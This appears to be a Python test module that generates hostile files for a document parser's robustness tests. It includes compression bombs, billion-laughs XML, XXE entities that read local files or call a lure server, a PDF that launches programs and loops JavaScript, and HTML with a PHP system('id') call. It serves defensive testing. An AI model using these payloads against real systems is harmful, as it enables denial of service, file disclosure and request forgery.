"""Files that break readers, each made here: bombs, loops, lies, depth, long runs.

`FILES` are documents by name, with how each ends: "ok", "partial", or the code of the
problem for which it is set aside.  A builder is given the address of a server that must
never be asked, and the path of a file whose words must never be read.
What other tests make is not made again: see test_pdf_hostile and test_archives.
"""

import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import NamedTuple

from tests import ofds
from tests.office_files import c, docx, p, r, xlsx, zipped
from tests.test_pdf_hostile import CATALOG, ONE_PAGE, PAGE, pdf, stream


class Lure(NamedTuple):
    """What a reader must not touch: the address of a server, and a file's path."""

    url: str
    path: str


Build = Callable[[Lure], bytes]

NEWS = (
    "示例新药在国内获批上市\n2024年6月27日 来源：示例新闻\n"
    + "示例生物宣布，示例替尼片获国家药监局批准上市，用于治疗示例淋巴瘤成人患者。\n" * 3
    + "业内人士表示，这为患者带来了新的治疗选择。公司称，药品下月开始供应各地医院。\n"
)
RUN = 20_000  # characters of a long run
DEPTH = 100_000


# --- XML: what entities and addresses would bring in


def doctypes(lure: Lure) -> dict[str, str]:
    """Document types that unfold without end, or ask for what is outside."""
    laughs = '<!ENTITY a0 "哈">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return {
        "laughs": f"<!DOCTYPE x [{laughs}<!ENTITY e '&a9;'>]>",
        "quadratic": f"<!DOCTYPE x [<!ENTITY e '{'哈' * RUN}'>]>",
        "loop": "<!DOCTYPE x [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>",
        "local_file": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{lure.path}'>]>",
        "http": f"<!DOCTYPE x [<!ENTITY e SYSTEM '{lure.url}/entity'>]>",
        "dtd": f"<!DOCTYPE x SYSTEM '{lure.url}/x.dtd' [<!ENTITY e ''>]>",
        "parameter": f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{lure.url}/p.dtd'> %p; "
        "<!ENTITY e ''>]>",
        "endless_device": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///dev/zero'>]>",
    }


def with_doctype(xml: str, doctype: str) -> str:
    """Put a document type behind the XML declaration, or at the start."""
    if not xml.startswith("<?xml"):
        return doctype + xml
    head, _, rest = xml.partition("?>")
    return f"{head}?>{doctype}{rest}"


def in_part(package: bytes, part: str, kind: str) -> Build:
    """A package whose part has a document type, and words that stand for it."""

    def build(lure: Lure) -> bytes:
        with zipfile.ZipFile(io.BytesIO(package)) as file:
            parts = {name: file.read(name) for name in file.namelist()}
        xml = parts[part].decode().replace("ENTITY", "&e;" * 50)
        return zipped({**parts, part: with_doctype(xml, doctypes(lure)[kind])})

    return build


def in_text(text: str, kind: str) -> Build:
    """A text with a document type."""
    return lambda lure: with_doctype(
        text.replace("ENTITY", "&e;" * 50), doctypes(lure)[kind]
    ).encode()


def page_that_asks(lure: Lure) -> bytes:
    """A page that loads all it can."""
    url = lure.url
    return (
        f"<html><head><base href='{url}/'><meta http-equiv=refresh content='0;{url}/r'>"
        f"<link rel=stylesheet href='{url}/a.css'><script src='{url}/a.js'></script>"
        f"</head><body><img src='{url}/a.png'><iframe src='{url}/f'></iframe>"
        f"<object data='file://{lure.path}'></object><embed src='{url}/e'>"
        f"<?php system('id') ?><p>{NEWS.replace(chr(10), '</p><p>')}</p></body></html>"
    ).encode()


def form_that_asks(lure: Lure) -> bytes:
    """A Word file whose template, pictures and text lie elsewhere."""
    outside = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="o{n}" Type="{outside}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
        for n, (kind, target) in enumerate(
            [("attachedTemplate", f"{lure.url}/t.dotm"), ("image", f"{lure.url}/i"),
             ("aFChunk", f"file://{lure.path}"), ("oleObject", f"{lure.url}/o")]
        )
    )  # fmt: skip
    package = docx("".join(p(r(line)) for line in NEWS.splitlines()))
    with zipfile.ZipFile(io.BytesIO(package)) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    name = "word/_rels/document.xml.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    rels = parts.get(name, empty).decode()
    parts[name] = rels.replace("</Relationships>", f"{links}</Relationships>").encode()
    return zipped(parts)


SVG = "<svg xmlns='http://www.w3.org/2000/svg'><text>ENTITY</text></svg>"
XHTML = (
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body>"
    f"<p>ENTITY</p><p>{NEWS.replace(chr(10), '</p><p>')}</p></body></html>"
)
KINDS = tuple(doctypes(Lure("", "")))


# --- PDF and pictures


def zeros(size: int) -> bytes:
    """A zlib stream of `size` zeros, in whole megabytes, without packing them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = struct.pack(">HH", size % 65521, 1)
    return b"\x78\xda" + piece * (size >> 20) + b"\x03\x00" + check


def flate_bomb(_: Lure) -> bytes:
    """10 GB of zeros, packed three times."""
    data = zlib.compress(zlib.compress(zeros(10 << 30), 9), 9)
    entry = b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"
    return pdf(CATALOG, ONE_PAGE, PAGE % b"/Contents 4 0 R", stream(data, entry))


def one_page(contents: bytes, entries: bytes = b"", *more: bytes) -> bytes:
    """A PDF of one page."""
    page = PAGE % (b"/Contents 4 0 R" + entries)
    return pdf(CATALOG, ONE_PAGE, page, stream(contents), *more)


def pdf_that_acts(lure: Lure) -> bytes:
    """A PDF that starts programs, runs scripts and loads pages when it is opened."""
    act = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/touch)/Next"
        b"<</S/JavaScript/JS(while\\(1\\){app.launchURL\\('%s'\\)})/Next<</S/URI/URI(%s)>>>>"
        b">>/AcroForm<</XFA(<x/>)>>>>" % (lure.url.encode(), lure.url.encode())
    )
    return pdf(act, ONE_PAGE, PAGE % b"")


def wide_picture(_: Lure) -> bytes:
    entries = b"/Resources<</XObject<</X 5 0 R>>>>"
    claims = (
        b"/Subtype/Image/Width 65535/Height 65535/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    drawn = b"595 0 0 842 0 0 cm /X Do"
    return one_page(drawn, entries, stream(zeros(1 << 20), claims))


def png(width: int, height: int, pixels: bytes) -> bytes:
    """A PNG of any claim."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )  # fmt: skip


def tiff_loop(_: Lure) -> bytes:
    """A TIFF whose second page is its first."""
    entries = [(256, 3, 1, 65535), (257, 3, 1, 65535), (258, 3, 1, 8), (262, 3, 1, 1)]
    table = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + table + struct.pack("<I", 8)


# --- archives


def many_entries(count: int) -> bytes:
    """A zip whose list names one member again and again."""
    name = b"a.txt"
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 5, 0) + name
    entry = struct.pack(
        "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0
    )
    listed = (entry + name) * count
    end = struct.pack(
        "<4s4H2IH", b"PK\5\6", 0, 0, count % 65536, count % 65536,
        len(listed), len(local), 0,
    )  # fmt: skip
    return local + listed + end


def overlapping(copies: int) -> bytes:
    """A zip whose members are all the same bytes: 190 MB each, of one packed half MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0000", bytes(9_900_000))
        infos = archive.infolist() * copies
        archive.filelist[:] = infos
    return made.getvalue()


def tar_of(size: bytes, kind: bytes = b"0", name: bytes = b"a.txt") -> bytes:
    """A tar with one header that says whatever it likes of its size."""
    head = bytearray(512)
    head[: len(name)] = name
    head[100:108], head[124:136], head[156:157] = b"0000644\0", size, kind
    head[257:265], head[148:156] = b"ustar\x0000", b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + bytes(1024)


def nested_tar(depth: int) -> bytes:
    data = b"x"
    for _ in range(depth):
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w") as archive:
            info = tarfile.TarInfo("a.tar")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        data = made.getvalue()
    return data


# --- long runs


def told(middle: str) -> Build:
    """News with something long in its midst, so that a parser claims it."""
    return lambda _: (NEWS + middle + "\n" + NEWS).encode()


def plain(text: str) -> Build:
    """A text and nothing else."""
    return lambda _: text.encode()


def fixed(data: Callable[[], bytes]) -> Build:
    """What needs nothing of the lure."""
    return lambda _: data()


RUNS = {
    "letter": "a", "digit": "1", "zero": "0", "point": ".", "dash": "-", "equals": "=",
    "blank": " ", "wide_blank": "\u3000", "year": "年", "comma": "，", "bracket": "（",
    "both_brackets": "（）", "square": "[", "curly": "{", "less": "<", "amp": "&",
    "star": "*", "underscore": "_", "hash": "#", "pipe": "|", "tick": "`", "quote": "“",
    "percent": "1%", "decimal": "1.", "date": "2024年1月1日", "iso": "2024-01-01 ",
    "range": "1~", "company": "公司", "drug": "替尼片", "number": "〔2024〕1号",
    "item": "一、", "colon": "：", "tab": "\t", "zero_width": "\u200b", "mark": "\u0301",
    "right_to_left": "\u202e", "stop": "。", "p_value": "P<0.05，", "interval": "（95%CI 1.0-",
    "months": "1个月", "patients": "例患者", "slash": "/", "at": "a@", "url": "http://",
    "phone": "010-", "dose": "20mg ", "patent": "ZL2020", "line": "\n", "return": "\r",
}  # fmt: skip


def all_runs() -> Iterable[tuple[str, Build, str]]:
    """News with a long run of each kind in it."""
    for name, unit in RUNS.items():
        yield f"run_{name}.txt", told(unit * (RUN // len(unit))), "ok"


def deep(start: str, end: str = "") -> Build:
    """A text in brackets or tags that lie in one another."""
    return told(start * RUN + "药" + end * RUN)


def page(body: str) -> Build:
    """A page with a body of any kind."""
    shown = NEWS.replace("\n", "</p><p>")
    return plain(f"<html><body><p>{shown}</p>{body}</body></html>")


FILES: dict[str, tuple[Build, str]] = {
    "flate_10gb.pdf": (flate_bomb, "bomb"),
    "acts.pdf": (pdf_that_acts, "empty"),
    "wide_picture.pdf": (wide_picture, "empty"),
    "operators.pdf": (fixed(lambda: one_page(b"q " * 1_000_000)), "empty"),
    "numbers.pdf": (fixed(lambda: one_page(b"BT /F 1e38 Tf 9e99 0 0 9e99 1e38 -1e38 Tm (a) Tj ET " * 99)), "empty"),
    "length_loop.pdf": (fixed(lambda: pdf(CATALOG, ONE_PAGE, PAGE % b"/Contents 4 0 R", b"<</Length 4 0 R>>stream\nq\nendstream")), "empty"),
    "contents_loop.pdf": (fixed(lambda: pdf(CATALOG, ONE_PAGE, PAGE % b"/Contents 4 0 R", b"[4 0 R 4 0 R]")), "empty"),
    "parent_loop.pdf": (fixed(lambda: pdf(CATALOG, b"<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 3 0 R>>")), "empty"),
    "claims.png": (fixed(lambda: png(65535, 65535, zlib.compress(b"\0"))), "image"),
    "bomb.png": (fixed(lambda: png(20000, 20000, zeros(1200 << 20))), "image"),
    "no_width.png": (fixed(lambda: png(0, 0, b"")), "image"),
    "loop.tif": (tiff_loop, "image"),
    "claims.gif": (fixed(lambda: b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x0b\0;"), "image"),
    "claims.bmp": (fixed(lambda: b"BM" + struct.pack("<I4xIIiiHHIIiiII", 99, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)), "image"),
    "asks.html": (page_that_asks, "ok"),
    "asks.docx": (form_that_asks, "ok"),
    "include.xml": (lambda lure: f"<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file://{lure.path}' parse='text'/></x>".encode(), "unknown_document"),
    "style.xml": (lambda lure: f"<?xml version='1.0'?><?xml-stylesheet href='{lure.url}/a.xsl' type='text/xsl'?><x>药</x>".encode(), "unknown_document"),
    "far.xlsx": (fixed(lambda: xlsx(f'<row r="1048576">{c("XFD1048576", "药")}</row>')), "unknown_document"),
    "beyond.xlsx": (fixed(lambda: xlsx(f'<row r="99999999999">{c("ZZZZZZZ99999999999", "药")}</row>')), "empty"),
    "corners.xlsx": (fixed(lambda: xlsx("".join(f'<row r="{n * 1000 + 1}">{c(f"A{n * 1000 + 1}", "药")}{c(f"XFD{n * 1000 + 1}", "药")}</row>' for n in range(1000)))), "unknown_document"),
    "rows.xlsx": (fixed(lambda: xlsx("".join(f'<row r="{n}">{c(f"A{n}", "药")}</row>' for n in range(1, 10_001)))), "unknown_document"),
    "spans.html": (page("<table>" + "<tr>" + "<td rowspan=65534 colspan=1000>药" * 50 + "</table>"), "ok"),
    "nested_spans.html": (page("<table><tr><td rowspan=999 colspan=999>" * 50), "ok"),
    "cells.html": (page("<table>" + "<tr>" + "<td>药" * 5_000), "ok"),
    "attributes.html": (page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">药"), "ok"),
    "attribute.html": (page("<p class='" + "a " * 2_000_000 + "'>药"), "ok"),
    "formatting.html": (page("<b><i><a><font>" * 2_000 + "<p>药" * 2_000), "ok"),
    "fostered.html": (page("<table>" + "<p>药" * 10_000), "ok"),
    "fostered_deep.html": (page("<table><b>" * 2_000 + "药"), "ok"),
    "options.html": (page("<select>" + "<option>药" * 10_000), "ok"),
    "comment.html": (page("<!--" + "-" * RUN), "ok"),
    "comments.html": (page("<!--" * 100_000), "ok"),
    "entities.html": (page("&#x110000;&lt&amp&#0;&notanentity" * 20_000), "ok"),
    "foreign.html": (page("<svg><math><foreignObject>" * 5_000 + "药"), "ok"),
    "script.html": (page("<script>" * 50_000), "ok"),
    "cdata.html": (page("<![CDATA[" * 50_000), "ok"),
    "deep_span.html": (page("<span>" * DEPTH + "药"), "ok"),
    "deep_list.html": (page("<ul><li>" * DEPTH + "药"), "ok"),
    "deep.json": (plain("[" * DEPTH + "]" * DEPTH), "unknown_document"),
    "deep_objects.json": (plain('{"a":' * DEPTH + "1" + "}" * DEPTH), "unknown_document"),
    "data.json": (plain(json.dumps([{"药": n} for n in range(50_000)])), "json"),
    "deep_quotes.md": (plain("# 药\n# 药\n" + ">" * DEPTH + NEWS), "ok"),
    "deep_list.md": (plain("# 药\n# 药\n" + "".join(" " * n + "- 药\n" for n in range(2_000)) + NEWS), "partial"),
    "wide_table.md": (plain(NEWS + "\n" + "|药" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + "|x" * 3_000 + "|\n"), "ok"),
    "links.md": (plain("# 药\n# 药\n" + "[" * RUN + "](" * RUN + NEWS), "partial"),
    "emphasis.md": (plain("# 药\n# 药\n" + "**a *b _c " * 5_000 + NEWS), "partial"),
    "aliases.md": (plain("---\na0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{f'*a{n - 1},' * 9}]\n" for n in range(1, 12)) + "---\n" + NEWS), "ok"),
    "one_line.txt": (plain("药品获批上市" * RUN), "unknown_document"),
    "lines.txt": (plain(NEWS + "药\n" * 5_000), "ok"),
    "program.txt": (fixed(lambda: b"MZ\x90\0" + bytes(range(256)) * 400), "binary"),
    "elf.html": (fixed(lambda: b"\x7fELF\2\1\1" + bytes(range(256)) * 400), "binary"),
    "picture.html": (fixed(lambda: png(1, 1, zlib.compress(b"\0\0\0\0"))), "image"),
    "page.pdf": (page("<p>药"), "ok"),
    "page.docx": (page("<p>药品"), "ok"),
    "page.xls": (page("<table><tr><td>药"), "ok"),
    "text.png": (plain(NEWS), "ok"),
    "wide.txt": (fixed(lambda: NEWS.encode("utf-16")), "ok"),
    "script.txt": (fixed(lambda: b"#!/bin/sh\ntouch executed\n" + NEWS.encode()), "ok"),
    "nested.tar": (fixed(lambda: nested_tar(9)), "archive"),
    "negative.tar": (fixed(lambda: tar_of(b"\xff" * 12)), "not_opened"),
    "long_name.tar": (fixed(lambda: tar_of(b"77777777777\0", b"L")), "archive"),
    "header.tar": (fixed(lambda: tar_of(b"77777777777\0", b"x")), "archive"),
    "sizes.tar": (fixed(lambda: tar_of(b"77777777777\0")), "archive"),
    "sparse.tar": (fixed(lambda: tar_of(b"00000000000\0", b"S")), "not_opened"),
    "entries.zip": (fixed(lambda: many_entries(300_000)), "archive"),
    "overlapping.zip": (fixed(lambda: overlapping(5_000)), "archive"),
    "empty_members.gz": (fixed(lambda: (b"\x1f\x8b\x08" + bytes(7) + b"\x03\0" + bytes(8)) * 500_000), "archive"),
    "saved.mht": (fixed(lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n" + b"--x\n" * 300_000), "archive"),
    "headers.mht": (fixed(lambda: b"MIME-Version: 1.0\n" + b"X: =?utf-8?q?a?=\n" * 100_000 + b"\n"), "archive"),
    **{f"deep_{name}.txt": (deep(*pair), "ok") for name, pair in {"round": ("（", "）"), "square": ("[", "]"), "angle": ("《", "》")}.items()},
    **{name: (build, code) for name, build, code in all_runs()},
}  # fmt: skip
# In a cell, an entity that is outside stands for nothing; one that unfolds is an error.
UNFOLDING = {"laughs", "quadratic", "loop"}
for kind in KINDS:
    FILES |= {
        f"{kind}.docx": (in_part(docx(p(r("ENTITY"))), "word/document.xml", kind), "damaged"),
        f"{kind}.xlsx": (in_part(xlsx(f'<row r="1">{c("A1", "ENTITY")}</row>'), "xl/worksheets/sheet1.xml", kind), "damaged" if kind in UNFOLDING else "empty"),
        f"{kind}.ofd": (in_part(ofds.package(ofds.document([ofds.page(ofds.text(9, 9, "ENTITY"))])), "Doc_0/Document.xml", kind), "damaged"),
        f"{kind}.html": (in_text(XHTML, kind), "partial" if kind == "quadratic" else "ok"),
        f"{kind}.svg": (in_text(SVG, kind), "unknown_document"),
    }  # fmt: skip
